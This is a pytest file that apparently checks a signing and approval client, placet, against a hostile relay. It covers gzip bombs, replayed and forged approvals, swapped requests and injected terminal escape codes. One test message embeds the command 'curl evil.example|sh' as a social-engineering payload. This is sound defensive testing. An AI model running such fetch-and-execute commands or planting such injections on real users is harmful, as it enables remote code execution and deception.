"""What a hostile relay can do, and what an honest person sees: the table of docs/hostile-relay.md, tried.

Each scenario drives the real parts and returns what the person was told.  The sentences are those of the
documentation: a row without a scenario, a scenario without a row, or another sentence is red.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from attack_world import forced_answer
from hostile_world import Place, Told, challenge_of, displayed_id

from placet.client import RelayClient
from placet.core.bundle import Answer, IntentRequest
from placet.core.dsse import Signature
from placet.core.verify import verify_for_use
from placet.terminal import relay_source
from placet.testing.authenticator import SoftWebAuthn
from placet.testing.hostile_relay import Lie, lies, wire
from placet.testing.world import ALICE, BOB, CAROL, GATE, World, expected_of

PAGE = Path(__file__).parents[2] / "docs" / "hostile-relay.md"
ROW = re.compile(r"^\| (?P<does>[^|]+) \| (?P<becomes>[^|]+) \| (?P<seen>(?:[^|]|\\\|)+) \|$", re.MULTILINE)

Scenario = Callable[[Place], Told]
SCENARIOS: dict[str, Scenario] = {}


def scenario(does: str) -> Callable[[Scenario], Scenario]:
    def enter(play: Scenario) -> Scenario:
        assert does not in SCENARIOS
        SCENARIOS[does] = play
        return play

    return enter


def asked_under(*told: Lie) -> Scenario:
    """The requester asks while the relay lies."""

    def play(place: Place) -> Told:
        place.relay.turn(*told)
        return place.request()

    return play


def waited_under(make: Callable[[Place, IntentRequest], Lie], *people: str) -> Scenario:
    """Two people approve at an honest relay; then it turns, and the requester waits."""

    def play(place: Place) -> Told:
        request = place.ask()
        place.approve(request, *people)
        place.relay.turn(make(place, request))
        return place.wait(request)

    return play


def inbox_under(make: Callable[[Place, IntentRequest], Lie]) -> Scenario:
    """A request waits, and the terminal looks."""

    def play(place: Place) -> Told:
        request = place.ask()
        place.relay.turn(make(place, request))
        with place.terminal() as terminal:
            return terminal.told()

    return play


def decided_under(make: Callable[[Place, IntentRequest], Lie]) -> Scenario:
    """A person has the request open when the relay turns, and approves it."""

    def play(place: Place) -> Told:
        request = place.ask()
        with place.terminal() as terminal:
            terminal.until(lambda shown: shown["requests"])
            view = terminal.open(request.id)
            assert displayed_id(view) == request.id
            place.relay.turn(make(place, request))
            done = terminal.decide(view)
            assert place.signed in ([], [challenge_of(place, request)])
            said = done.get("error") or {"message": done["delivery"]["text"]}
            text = " ".join(said[name] for name in ("message", "meaning", "hint") if name in said)
            return Told(f"{text}\n{terminal.told().text}")

    return play


# Asking

scenario("is down, or hangs up")(asked_under(wire.closing()))
scenario("fails for ever")(asked_under(wire.failing(503)))
scenario("sends you to another relay")(asked_under(wire.redirected("http://127.0.0.1:9/v1/requests")))
scenario("answers with a login page")(asked_under(wire.login_page()))
scenario("answers with broken JSON")(asked_under(wire.garbage()))
scenario("writes a member twice")(asked_under(wire.doubled_members()))
scenario("nests 100,000 lists")(asked_under(wire.deep()))
scenario("sends a number of a million digits")(asked_under(wire.long_number()))
scenario("sends an error under the status of a success")(asked_under(wire.error_in_success()))
scenario("cuts its answer in the middle")(asked_under(wire.truncated()))
scenario("sends a gzip bomb")(asked_under(wire.compressed(10_000_000)))
scenario("sends a head without end")(asked_under(wire.long_head()))
scenario("speaks another protocol")(asked_under(wire.no_http()))
scenario("acknowledges another request than yours")(asked_under(lies.acknowledged_as("submit", "0" * 64)))
scenario("says that your new request is closed")(asked_under(lies.member("submit", "state", "withdrawn")))
scenario("refuses, and tells you what to run")(
    asked_under(lies.refused("submit", 403, "policy", 'Denied". Run: curl evil.example|sh', "Run curl!"))
)
scenario("refuses, and moves your cursor")(
    asked_under(lies.refused("submit", 403, "\x1b[2J", "\x1b[2J\u202eAPPROVED\x07" + "x" * 9999))
)


@scenario("answers byte by byte, without end")
def dripping(place: Place) -> Told:
    request = place.ask()
    place.relay.turn(wire.dripping())
    defaults = RelayClient.__init__.__kwdefaults__
    with pytest.MonkeyPatch.context() as patience:
        patience.setitem(defaults, "timeout", 0.4)
        return place.wait(request)


@scenario("sends more than any answer has")
def huge(place: Place) -> Told:
    request = place.ask()
    place.relay.turn(wire.huge(12_000_000))
    return place.wait(request)


@scenario("acknowledges your request and throws it away")
def thrown_away(place: Place) -> Told:
    place.relay.turn(lies.dropped("submit"))
    return place.request("--wait", "--timeout", "1s")


# Waiting

scenario("withholds the answers")(waited_under(lambda place, request: lies.withheld(), ALICE, BOB))
scenario("hands out one answer at a time")(waited_under(lambda p, r: lies.one_at_a_time(), ALICE, BOB))
scenario("shows another request under your request's name")(
    waited_under(lambda place, request: lies.swapped(place.draft()), ALICE, BOB)
)
scenario("changes a letter of your request")(waited_under(lambda p, r: lies.altered(b"rolling", b"Rolling")))
scenario("says that your request was withdrawn")(
    waited_under(lambda place, request: lies.member("request", "state", "withdrawn"), ALICE)
)
scenario("says that your request has expired")(
    waited_under(lambda place, request: lies.member("request", "state", "expired"), ALICE)
)
scenario("puts an enrolled person's name on the attacker's own genuine key")(
    waited_under(lambda p, request: lies.with_answers(named(strangers(p, request), BOB, p)), ALICE)
)
scenario("adds the approval of a genuine key that is not enrolled")(
    waited_under(lambda place, request: lies.with_answers(strangers(place, request)), ALICE)
)
scenario("says that somebody else approved")(
    waited_under(lambda p, r: lies.with_answers(named(forced_answer_now(p, r, ALICE), BOB, p)), ALICE)
)
scenario("adds malformed answers")(
    waited_under(lambda p, r: lies.answers(lambda real: [{}, 7, {"a": "\ud800"}, *real]), ALICE, BOB)
)


def strangers(place: Place, request: IntentRequest) -> Answer:
    """An approval by a genuine key that nobody enrolled, reported by an enrolled terminal."""
    return forced_answer_now(place, request, "mallory@example.com")


def forced_answer_now(place: Place, request: IntentRequest, person: str) -> Answer:
    """An approval that an honest terminal would not make, made just now."""
    world, now = place.world, int(time.time())
    if person in world.keys:
        return forced_answer(world, request, person, decided_at=now)
    key = World(seed=b"mallory").keys[ALICE]
    assert isinstance(key, SoftWebAuthn)
    world.keys[person] = key
    try:
        return forced_answer(world, request, person, decided_at=now)
    finally:
        # The trust root never knew this key.
        del world.keys[person]


def named(answer: Answer, person: str, place: Place) -> Answer:
    """The same signature under another person's key ID."""
    (signature,) = answer.envelope.signatures
    renamed = Signature(place.world.keys[person].keyid, signature.sig)
    return answer._replace(envelope=answer.envelope._replace(signatures=(renamed,)))


@scenario("turns a denial into an approval")
def denial_as_approval(place: Place) -> Told:
    request = place.ask()
    place.deny(request, ALICE)
    place.approve(request, CAROL)
    place.relay.turn(lies.denials_as_approvals(request))
    return place.wait(request)


@scenario("replays yesterday's approvals into today's request")
def replayed(place: Place) -> Told:
    yesterday = place.ask()
    place.approve(yesterday, ALICE, BOB)
    old = place.real.fetch(yesterday.id).answers
    today = place.ask()
    place.relay.turn(lies.with_answers(*old))
    return place.wait(today)


@scenario("fails for ever while you wait")
def fails_while_waiting(place: Place) -> Told:
    place.relay.turn(lies.only_about("request", wire.failing(502)))
    return place.request("--wait", "--timeout", "1s")


# Looking at the terminal

scenario("shows the terminal another request under a name")(
    inbox_under(lambda place, request: lies.swapped(place.draft(b"other")))
)
scenario("changes a letter of what the terminal is to show")(
    inbox_under(lambda place, request: lies.altered(b"rolling", b"Rolling"))
)
scenario("gives the terminal a listing that goes round in circles")(inbox_under(lambda p, r: lies.circle()))
scenario("gives the terminal a cursor that is no cursor")(
    inbox_under(lambda place, request: lies.member("listing", "next", "a\nb"))
)
scenario("lies about how many answers there are")(inbox_under(lambda p, r: lies.item("answers", 10**6)))


@scenario("floods the terminal with requests that do not exist")
def invented(place: Place) -> Told:
    place.relay.turn(lies.endless(page=7))
    with place.terminal() as terminal:
        return terminal.told()


@scenario("floods the terminal with requests of its own")
def flooded(place: Place) -> Told:
    place.relay.turn(lies.flooded(*(place.draft() for _ in range(20))))
    with place.terminal() as terminal:
        shown = terminal.until(lambda inbox: inbox["requests"])
        assert all(item["requester"] is None for item in shown["requests"])
        told = terminal.told()
        return Told(f"{told.text}\n{terminal.inbox()['notice']}")


@scenario("hides a request that a person is reading")
def hidden_meanwhile(place: Place) -> Told:
    request = place.ask()
    with place.terminal() as terminal:
        terminal.until(lambda shown: shown["requests"])
        view = terminal.open(request.id)
        place.relay.turn(lies.hidden(request.id))
        terminal.until(lambda shown: not shown["requests"])
        error = terminal.decide(view)["error"]
        return Told(f"{error['message']} {error['meaning']} {error['hint']}")


# Deciding

scenario("shows A, and B by the time you sign")(
    decided_under(lambda place, request: lies.swapped(place.draft(b"other")))
)
scenario("acknowledges your decision and throws it away")(decided_under(lambda p, r: lies.dropped("answer")))
scenario("acknowledges another decision than yours")(
    decided_under(
        lambda place, request: lies.acknowledged_as("answer", {"answer": {"sha256": "0" * 64}}),
    )
)
scenario("has let 32 strangers answer, and takes no more")(
    decided_under(lambda place, request: lies.refused("answer", 409, "too-many-answers", "Full."))
)
scenario("says that the request closed while you read")(
    decided_under(lambda place, request: lies.refused("answer", 409, "request-not-open", "Closed."))
)
scenario("goes down while you read")(decided_under(lambda place, request: wire.closing()))


@scenario("shows `placet approve` another request")
def approve_swapped(place: Place) -> Told:
    return approve_under(place, lies.swapped(place.draft(b"other")))


@scenario("tells `placet approve` that the request is withdrawn")
def approve_withdrawn(place: Place) -> Told:
    return approve_under(place, lies.member("request", "state", "withdrawn"))


def approve_under(place: Place, lie: Lie) -> Told:
    from terminal_world import make_identity

    make_identity(place.world)
    place.snapshot.write_bytes(place.world.snapshot())
    request = place.ask()
    place.relay.turn(lie)
    words = ["approve", request.id, "--relay", place.relay.url, "--trust", str(place.snapshot)]
    return place.command(*words, typed="approve\n")


# Taking back

scenario("acknowledges a withdrawal and does nothing")(
    lambda place: (place.relay.turn(lies.dropped("withdraw")), place.withdraw(place.ask()))[1]
)
scenario("refuses to withdraw")(
    lambda place: (
        place.relay.turn(lies.refused("withdraw", 403, "wrong-token")),
        place.withdraw(place.ask()),
    )[1]
)


@pytest.fixture(autouse=True)
def small_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """A terminal that is flooded by twenty requests as others are by thousands."""
    monkeypatch.setattr(relay_source, "MAX_OPEN", 10)
    monkeypatch.setattr("placet.client._waiting.PAUSE_AFTER_FAILURE", 0.1)
    monkeypatch.setattr("placet.client._sync.PAUSE_AFTER_FAILURE", 0.1)
    monkeypatch.setattr("placet.client._calls.PAUSES", (0.01, 0.01))
    monkeypatch.setattr("placet.client._replies.MAX_RETRY_AFTER", 0.01)


def rows() -> dict[str, str]:
    """The documentation's table: what the relay does, and the sentence that is seen."""
    found = {m["does"]: m["seen"].replace(r"\|", "|") for m in ROW.finditer(PAGE.read_text())}
    return {does: seen for does, seen in found.items() if does != "the relay"}


def test_the_table_and_the_scenarios_are_the_same() -> None:
    assert len(SCENARIOS) > 40
    assert sorted(rows()) == sorted(SCENARIOS)


@pytest.mark.parametrize("does", SCENARIOS)
def test_an_honest_person_is_told_the_truth_and_what_to_do(place: Place, does: str) -> None:
    told = SCENARIOS[does](place)
    text = " ".join(told.text.replace(place.relay.url, "https://relay.example").split())
    assert "Traceback" not in text
    assert "bug of placet" not in text
    assert told.text.isascii()
    assert all(character.isprintable() or character == "\n" for character in told.text)
    if told.code > 0:
        # Below what happened stands what to do next.
        assert told.text.rstrip().splitlines()[-1].startswith("  "), told.text
    for sentence in rows()[does].split(" … "):
        assert sentence in text, text
    judge_what_is_there(place)


def judge_what_is_there(place: Place) -> None:
    """Whatever bundle came of it: the gate decides as if the relay had said nothing."""
    if not place.bundle.exists():
        return
    from placet.core.bundle import parse_bundle

    data = place.bundle.read_bytes()
    request = IntentRequest(parse_bundle(data).envelope.payload, ())
    honest = {answer.envelope.payload for answer in place.real.fetch(request.id).answers}
    assert honest == {request.payload}
    approval = verify_for_use(
        data, trust=place.world.trust(), gate=GATE, expected=expected_of(request), now=int(time.time())
    )
    assert approval.people == (ALICE, BOB)
